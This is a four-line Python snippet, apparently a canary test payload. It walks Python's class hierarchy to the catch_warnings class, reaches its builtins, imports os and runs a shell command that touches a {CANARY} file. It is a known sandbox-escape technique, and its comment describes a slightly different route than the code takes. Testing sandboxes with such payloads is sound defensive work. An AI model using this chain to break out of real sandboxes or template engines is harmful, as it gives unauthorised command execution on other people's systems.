# class-hierarchy walk to find a class whose __init__.__globals__ holds os
for c in ().__class__.__bases__[0].__subclasses__():
    if c.__name__ == "catch_warnings":
        c()._module.__builtins__["__import__"]("os").system("touch {CANARY}")
